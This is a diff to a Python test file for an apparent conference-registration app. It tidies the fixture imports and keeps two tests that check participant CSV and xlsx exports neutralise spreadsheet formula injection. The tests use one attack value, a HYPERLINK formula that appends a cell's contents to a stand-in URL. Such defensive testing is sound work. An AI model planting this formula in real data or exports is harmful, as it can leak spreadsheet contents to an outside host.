@@ -10,13 +10,12 @@ from kongres_app.services import exports, organiser
 from kongres_app.services.board_exports import board_csv, board_markdown
 from kongres_app.services.boards import board_view
 from kongres_app.services.export_cells import csv_bytes, markdown_text
-from tests.unit.test_organiser import call, staff  # noqa: F401 (fixture)
-from tests.unit.test_registration import org, register
+from tests.factories import call, org, register
 
 ATTACK = '=HYPERLINK("http://x/?"&A1,"klik")'
 
 
-def test_xlsx_stores_a_formula_looking_name_as_text(seeded_engine, staff):  # noqa: F811
+def test_xlsx_stores_a_formula_looking_name_as_text(seeded_engine, staff):
     register(seeded_engine, org(1, name=ATTACK))
     rows = call(seeded_engine, organiser.all_participants, staff["organiser"])
     body = exports.participants_xlsx(rows)
@@ -28,7 +27,7 @@ def test_xlsx_stores_a_formula_looking_name_as_text(seeded_engine, staff):  # no
     assert cells and all(c.data_type == "s" for c in cells)
 
 
-def test_csv_makes_every_formula_start_inert(seeded_engine, staff):  # noqa: F811
+def test_csv_makes_every_formula_start_inert(seeded_engine, staff):
     register(seeded_engine, org(1, name=ATTACK))
     text = exports.participants_csv(call(seeded_engine, organiser.all_participants, staff["organiser"])).decode()
     assert text.startswith("\ufeff") and f"'{ATTACK}" in text.replace('""', '"')
